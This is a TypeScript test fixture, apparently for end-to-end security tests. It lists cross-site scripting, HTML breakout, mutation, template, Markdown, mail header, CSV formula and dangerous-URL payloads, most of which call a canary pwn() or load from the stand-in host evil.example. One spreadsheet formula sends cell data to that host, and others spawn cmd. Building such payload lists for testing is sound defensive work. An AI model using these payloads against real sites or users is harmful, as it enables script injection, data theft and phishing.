/**
 * Texts that act if a page takes them for more than text. Each calls pwn(), or loads from evil.example;
 * tests/e2e/support/canary.ts notices both. Short, because most fields are.
 */

/** Markup. */
const MARKUP = [
  "<script>pwn()</script>",
  "<ScRiPt >pwn()</sCrIpT >",
  "<script type=module>pwn()</script>",
  '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=pwn()>",
  "<img/src=x/onerror=pwn()//",
  "<img srcset='https://evil.example/x.png 1x'>",
  "<svg onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:pwn()><text y=9>x</text></a></svg>",
  "<svg><use href=https://evil.example/x.svg#x>",
  "<math href=javascript:pwn()>x</math>",
  "<body onload=pwn()>",
  "<details open ontoggle=pwn()>",
  "<video><source onerror=pwn()></video>",
  "<audio src=x onerror=pwn()>",
  "<input autofocus onfocus=pwn()>",
  "<iframe srcdoc='<script>parent.pwn()</script>'>",
  "<iframe src=javascript:parent.pwn()>",
  "<object data=https://evil.example/x>",
  "<embed src=https://evil.example/x>",
  "<form action=javascript:pwn()><button>x</button></form>",
  "<a href=javascript:pwn()>x</a>",
  "<a href='data:text/html,<script>pwn()</script>'>x</a>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<p style=background:url(https://evil.example/x)>x",
  "<p style=x:expression(pwn())>x",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>",
  // An open quote includes what follows.
  "<img src='https://evil.example/?",
  "<base target='",
] as const;

/** Texts that end the attribute, element or script around them. */
const WAYS_OUT = [
  "</title><script>pwn()</script>",
  "</textarea><script>pwn()</script>",
  "</style><script>pwn()</script>",
  "</script><script>pwn()</script>",
  "<!--<script>pwn()</script>",
  "--><script>pwn()</script>",
  "]]><script>pwn()</script>",
  '"><script>pwn()</script>',
  "'><img src=x onerror=pwn()>",
  '" autofocus onfocus="pwn()',
  "' onmouseover='pwn()",
  "` onmouseover=`pwn()",
  '";pwn();//',
  "';pwn();//",
  "\\';pwn();//",
  "\u2028pwn()//",
  "\u2029pwn()//",
  '"}</script><script>pwn()</script>',
] as const;

/** Texts that do harm only if something decodes them twice. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
  "<template><img src=x onerror=pwn()></template>",
  "&lt;img src=x onerror=pwn()&gt;",
  "&#60;script&#62;pwn()&#60;/script&#62;",
  "%3Cscript%3Epwn()%3C/script%3E",
  "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
  "＜script＞pwn()＜/script＞",
  "<scr\u200bipt>pwn()</scr\u200bipt>",
] as const;

/** Texts that do harm in templates, Markdown, mail headers, PDFs or property names, or deceive the eye. */
const OTHER_LANGUAGES = [
  "{{constructor.constructor('pwn()')()}}",
  "$" + "{pwn()}",
  "<%= pwn() %>",
  "#{pwn()}",
  "[x](javascript:pwn())",
  "![x](https://evil.example/x.png)",
  "<javascript:pwn()>",
  "x\r\nBcc: evil@evil.example",
  "x\r\n\r\n<script>pwn()</script>",
  "x%0d%0aSet-Cookie:pwn=1",
  ")/JS(pwn())/S/JavaScript",
  "__proto__",
  "constructor",
  "\u202egnp.exe",
  "p\u0430ypal.example",
] as const;

/** Formulas that a spreadsheet would run. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "=1+1",
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "'=1+1",
] as const;

/** Addresses that do not lead to a website. */
export const DANGEROUS_ADDRESSES = [
  "javascript:pwn()",
  "JaVaScRiPt:pwn()",
  " javascript:pwn()",
  "\u0001javascript:pwn()",
  "java\tscript:pwn()",
  "java\nscript:pwn()",
  "javascript\u0000:pwn()",
  "javascript&colon;pwn()",
  "&#106;avascript:pwn()",
  "javascript://https://x/%0apwn()",
  "data:text/html,<script>pwn()</script>",
  "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
  "vbscript:pwn()",
  "blob:https://evil.example/x",
  "file:///etc/passwd",
  "view-source:https://evil.example",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "https:evil.example",
  "http:/evil.example",
  "https:\\\\evil.example",
  "https://",
] as const;

/** Websites' addresses that contain a payload. */
export const ODD_ADDRESSES = [
  "https://evil.example/<script>pwn()</script>",
  'https://evil.example/"onmouseover="pwn()',
  "https://evil.example/'onmouseover='pwn()",
  "https://evil.example/?javascript:pwn()",
  "https://evil.example/#\u202e",
  "https://bank.example@evil.example/",
] as const;

export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...WAYS_OUT,
  ...MUTATIONS,
  ...OTHER_LANGUAGES,
  ...FORMULAS,
  ...DANGEROUS_ADDRESSES,
];
